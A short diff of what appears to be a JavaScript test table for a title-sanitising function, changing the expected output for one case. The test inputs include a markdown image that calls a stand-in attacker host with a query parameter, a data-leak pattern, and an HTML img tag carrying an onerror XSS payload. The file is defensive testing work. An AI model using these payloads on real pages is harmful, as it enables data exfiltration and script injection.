@@ -5,7 +5,7 @@ describe('the title of a thing', () => {
     ['Corporate website', 'Corporate website'],
     ["Noor's café (new)", "Noor's café (new)"],
     ['顧客サイト', '顧客サイト'],
-    ['![x](https://evil.example/p.png?who=me)', 'x (https'],
+    ['![x](https://evil.example/p.png?who=me)', 'x ('],
     ['<img src=x onerror=alert(1)>', 'img src x onerror alert(1)'],
     ['**bold** `code` [a](b)', 'bold code a (b)'],
     ['Shop\n# Heading', 'Shop Heading'],
